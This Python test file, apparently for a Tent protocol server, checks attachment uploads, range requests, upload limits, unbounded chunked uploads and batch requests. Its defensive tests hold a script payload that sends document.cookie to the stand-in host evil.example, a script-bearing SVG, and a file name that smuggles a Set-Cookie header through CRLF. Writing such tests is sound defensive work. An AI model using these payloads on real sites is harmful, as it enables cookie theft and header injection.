# SPDX-License-Identifier: BSD-3-Clause
"""Files of apps from the outside: multipart in, bytes out, within bounds (sections 4.6 and 4.8)."""
import json
import os
import socket
import urllib.parse

import tent
from harness import HOST, check, check_equal
from node import limit, picture
from reach import forget_peak, resident

STATUS = "https://tent.io/types/status/v0#"
NOTE = "https://vendor.example/types/note/v0#"
EVIL = b"<script>document.location='http://evil.example/'+document.cookie</script>"


def form(post, files, post_last=False):
    """The body of a form with boundary "x", and its type; files: (part name, file name, type, bytes)."""
    text = json.dumps(post).encode()
    head = b'--x\r\nContent-Disposition: form-data; name="post"; filename="post.json"\r\nContent-Type: %s\r\n\r\n%s\r\n'
    parts = [head % (tent.post_media_type(post["type"]).encode(), text)]
    for part, name, type_, data in files:
        parts.insert(len(parts) - (1 if post_last else 0), b"".join([
            ('--x\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n'
             % (part, name, type_)).encode(), data, b"\r\n"]))
    return b"".join(parts) + b"--x--\r\n", "multipart/form-data; boundary=x"


def send(node, method, target, post, files, **more):
    body, type_ = form(post, files, **more)
    return node.api(method, target, body=body, content_type=type_, timeout=120)


def made(answer):
    check_equal(answer.status, 200, "the post: %r" % answer.body[:300])
    return answer.json()["post"]


def alone(stage, *args):
    node = stage.node("alice", "none", start=False)
    node.extra_args = list(args)
    return node.start()


def file_of(node, post, name, **more):
    """The answer behind post_attachment's redirect, asked for by the app."""
    answer = node.api("GET", "/posts/%s/%s/attachments/%s" % (tent.escape(post["entity"]), post["id"], tent.escape(name)), **more)
    if answer.status != 302:
        return answer
    place = urllib.parse.urlsplit(answer.header("Location"))
    check(answer.header("Attachment-Digest") in urllib.parse.unquote(place.path), "Location: %r" % place.path)
    return node.api("GET", place.path + ("?" + place.query if place.query else ""), **more)


def test_several_files_their_names_types_and_bytes(stage):
    alice = alone(stage)
    png, page = picture(), b"<p>hi</p>"
    post = made(send(alice, "POST", "/posts", {"type": NOTE, "content": {}}, [
        ("photo[0]", "dot", "image/png", png), ("photo[0]", "dot", "text/plain", b"a dot"), ("page", "page.html", "text/html", page)],
        post_last=True))
    check_equal([(a["category"], a["name"], a["content_type"], a["size"], a["digest"]) for a in post["attachments"]],
                [("photo", "dot", "image/png", len(png), tent.digest(png)), ("photo", "dot", "text/plain", 5, tent.digest(b"a dot")),
                 ("page", "page.html", "text/html", len(page), tent.digest(page))], "attachments")
    for accept, data in (("image/png", png), ("text/plain", b"a dot"), ("text/*;q=0.5, image/gif", b"a dot"), ("*/*", png)):
        got = file_of(alice, post, "dot", headers=[("Accept", accept)])
        check(got.status == 200 and got.body == data, "Accept: " + accept)
    check_equal(file_of(alice, post, "dot", headers=[("Accept", "image/gif")]).status, 404, "no such form")
    check_equal(file_of(alice, post, "nothing").status, 404, "no such file")

    # A new version keeps one file by naming it, and brings another; another post copies it from here.
    kept = {k: post["attachments"][0][k] for k in ("category", "name", "content_type", "digest")}
    where = "/posts/%s/%s" % (tent.escape(post["entity"]), post["id"])
    second = made(send(alice, "PUT", where, {"type": NOTE, "content": {}, "attachments": [kept], "version": {
        "parents": [{"version": post["version"]["id"]}]}}, [("new", "new.txt", "text/plain", b"new")]))
    check_equal([a["name"] for a in second["attachments"]], ["dot", "new.txt"], "of the second version")
    copy = made(alice.api("POST", "/posts", content_type=tent.post_media_type(NOTE), body=json.dumps(
        {"type": NOTE, "content": {}, "attachments": [kept]}).encode()))
    check(file_of(alice, copy, "dot").body == png, "the copy")
    unknown = dict(kept, digest=tent.digest(b"never seen"))
    check_equal(alice.api("POST", "/posts", content_type=tent.post_media_type(NOTE), body=json.dumps(
        {"type": NOTE, "content": {}, "attachments": [unknown]}).encode()).status, 400, "a file that is not here")
    old = file_of(alice, post, "page.html?version=" + post["version"]["id"])
    check_equal(old.status, 404, "a name with a question mark is a name")

    # HEAD, ranges, conditions.
    path = "/attachments/%s/%s" % (tent.escape(post["entity"]), tent.digest(png))
    whole = alice.api("GET", path)
    check(whole.body == png, "whole")
    check_equal((whole.header("ETag").strip('"'), whole.header("Accept-Ranges")), (tent.etag(png).strip('"'), "bytes"), "its headers")
    head = alice.api("HEAD", path)
    check_equal((head.status, head.body, head.header("Content-Length")), (200, b"", str(len(png))), "HEAD")
    part = alice.api("GET", path, headers=[("Range", "bytes=5-9")])
    check_equal((part.status, part.body, part.header("Content-Range")), (206, png[5:10], "bytes 5-9/%d" % len(png)), "a range")
    check_equal(alice.api("GET", path, headers=[("Range", "bytes=%d-" % len(png))]).status, 416, "beyond the end")
    check_equal(alice.api("GET", path, headers=[("If-None-Match", whole.header("ETag"))]).status, 304, "unchanged")


def test_hostile_files_do_not_run_here(stage):
    alice = alone(stage)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    hostile = [("f", "a.html", "text/html", EVIL), ("f", "a.svg", "image/svg+xml", svg), ("f", "a.xhtml", "application/xhtml+xml", EVIL),
               ("f", "a.png", "image/png", EVIL), ("f", "a.pdf", "application/pdf", EVIL), ("f", 'x%0D%0ASet-Cookie: a=b.txt', "text/plain", EVIL),
               ("f", "odd.txt", "text/plain; charset=utf-7", EVIL), ("f", "odder", "not a type", EVIL)]
    for entry in hostile:
        answer = send(alice, "POST", "/posts", {"type": NOTE, "content": {}}, [entry])
        if answer.status == 400:
            continue  # what is no media type at all
        post = made(answer)
        got = file_of(alice, post, entry[1])
        check_equal((got.status, got.body), (200, entry[3]), entry[1])
        check_equal(got.header("X-Content-Type-Options"), "nosniff", "%s: sniffing" % entry[1])
        check("sandbox" in got.header("Content-Security-Policy"), "%s: policy %r" % (entry[1], got.header("Content-Security-Policy")))
        check(got.header("Set-Cookie") == "", "%s: a header of the sender's making" % entry[1])
        shown = got.header("Content-Disposition").startswith("inline")
        check(not shown or entry[2].partition(";")[0] in ("image/png", "text/plain"), "%s is shown in place as %s" % (entry[1], entry[2]))


def test_limits_of_an_upload(stage):
    alice = alone(stage, "--upload-limit", "2")
    fits, too_much = os.urandom(2 << 20), os.urandom((2 << 20) + 1)
    post = made(send(alice, "POST", "/posts", {"type": NOTE, "content": {}}, [("f", "fits", "application/octet-stream", fits)]))
    check(file_of(alice, post, "fits").body == fits, "as much as there may be")
    answer = send(alice, "POST", "/posts", {"type": NOTE, "content": {}}, [("f", "big", "application/octet-stream", too_much)])
    check_equal(answer.status, 413, "one byte more: %r" % answer.body[:200])
    check("error" in answer.json(), "the error body: %r" % answer.body[:200])
    words = alice.refused("post", "x", "--as-is", stage.file("big", too_much))
    check("2 MiB" in words, "the command line: %r" % words)
    check_equal(len(alice.json("feed")["posts"]), 1, "nothing but the first was stored")
    info = alice.api("GET", "/server").json()
    check_equal(info["limits"]["attachments"]["maximum_size"], 2 << 20, "server_info tells apps")
    for bad in ("0", "-1", "5000", "many", ""):
        code, _, err = alice.raw("run", "--no-tor", "--passphrase-file", "-", "--upload-limit", bad, stdin=b"x\n")
        check_equal(code, 2, "--upload-limit %r: %r" % (bad, err))


def test_an_upload_without_end(stage):
    """Chunked, in a form whose file never ends, or in one long row of parts: cut off at the limit, nothing stays."""
    alice = alone(stage, "--upload-limit", "4")
    alice.api("GET", "/posts")
    host = alice.status()["local_api"][len("http://"):]
    address = (HOST, int(host.rsplit(":", 1)[1]))
    post = json.dumps({"type": NOTE, "content": {}}).encode()
    head = (b'--x\r\nContent-Disposition: form-data; name="post"; filename="post.json"\r\nContent-Type: %s\r\n\r\n%s\r\n'
            % (tent.post_media_type(NOTE).encode(), post))
    part = b'--x\r\nContent-Disposition: form-data; name="f"; filename="f"\r\nContent-Type: a/b\r\n\r\n'
    before, files = forget_peak(alice.pid), sorted(os.listdir(alice.data))
    for name, start, piece in (("a file", head + part, os.urandom(1 << 16)), ("parts", head, (part + b"x\r\n") * 600),
                               ("a part's head", head + part[:-2], b"X: " + b"y" * 60000 + b"\r\n"), ("what comes before", b"", b"z" * 60000)):
        authorization, _ = alice.app.header("POST", "/posts", HOST, address[1])
        sent = 0
        with socket.create_connection(address, timeout=20) as sock:
            sock.sendall(("POST /posts HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\nTransfer-Encoding: chunked\r\n"
                          "Content-Type: multipart/form-data; boundary=x\r\n\r\n" % (host, authorization)).encode())
            try:
                while sent < 64 << 20:
                    data = (start + piece) if not sent else piece
                    sock.sendall(b"%x\r\n%s\r\n" % (len(data), data))
                    sent += len(data)
            except OSError:
                pass
            try:
                answer = sock.recv(65536)
            except OSError:
                answer = b""
        check(sent < 32 << 20, "%s without end: %d MiB were taken" % (name, sent >> 20))
        check(not answer or answer.split(b" ")[1] in (b"400", b"413"), "%s without end: %r" % (name, answer[:100]))
        check_equal(alice.api("GET", "/posts").status, 200, "others are served")
    check(resident(alice.pid) - before < 24 << 20, "alice grew by %d MiB" % ((resident(alice.pid) - before) >> 20))
    check_equal(sorted(os.listdir(alice.data)), files, "files")
    check_equal(alice.json("feed")["posts"], [], "posts")


@limit(180)
def test_ninety_mebibytes_in_bounded_memory(stage):
    alice = alone(stage)
    alice.api("GET", "/posts")
    data = os.urandom(1 << 20) * 90
    before = forget_peak(alice.pid)
    post = made(send(alice, "POST", "/posts", {"type": NOTE, "content": {}}, [("f", "large", "application/octet-stream", data)]))
    check_equal(post["attachments"][0]["digest"], tent.digest(data), "digest")
    check(file_of(alice, post, "large", timeout=120).body == data, "the bytes differ")
    grown = resident(alice.pid) - before
    stage.say("grew by %.1f MiB" % (grown / (1 << 20)))
    check(grown < 60 << 20, "alice grew by %d MiB" % (grown >> 20))


def test_a_batch_over_the_wire(stage):
    """Section 4.11: inner requests have no Host and are signed for that of the outer one."""
    alice = alone(stage)
    first = made(alice.api("POST", "/posts", content_type=tent.post_media_type(STATUS),
                           body=json.dumps({"type": STATUS, "content": {"text": "one"}}).encode()))
    host = alice.status()["local_api"][len("http://"):]
    name, _, port = host.partition(":")
    body = b""
    paths = ["/posts/%s/%s" % (tent.escape(first["entity"]), first["id"]), "/server", "/posts/none"]
    for number, path in enumerate(paths):
        header, _ = alice.app.header("GET", path, name, int(port))
        body += ("--b\r\nContent-Type: application/http\r\nContent-ID: <%d>\r\n\r\nGET %s HTTP/1.1\r\nAuthorization: %s\r\n"
                 "Content-Length: 0\r\n\r\n\r\n" % (number, path, header)).encode()
    answer = alice.api("POST", "/batch", body=body + b"--b--\r\n", content_type='multipart/mixed; boundary="b"')
    check_equal(answer.status, 200, "the batch: %r" % answer.body[:300])
    boundary = answer.header("Content-Type").split('"')[1]
    found = {}
    for part in answer.body.split(b"--" + boundary.encode())[1:-1]:
        head, _, inner = part.partition(b"\r\n\r\n")
        found[head.split(b"Content-ID: ")[1].split(b"\r\n")[0].decode()] = inner
    check_equal(sorted(found), ["<response-0>", "<response-1>", "<response-2>"], "the answers")
    check(found["<response-0>"].startswith(b"HTTP/1.1 200") and b'"one"' in found["<response-0>"], "the post: %r" % found["<response-0>"])
    check(b'"storage"' in found["<response-1>"] and b'"available"' in found["<response-1>"], "server_info: %r" % found["<response-1>"])
    check(found["<response-2>"].startswith(b"HTTP/1.1 404"), "unknown: %r" % found["<response-2>"])
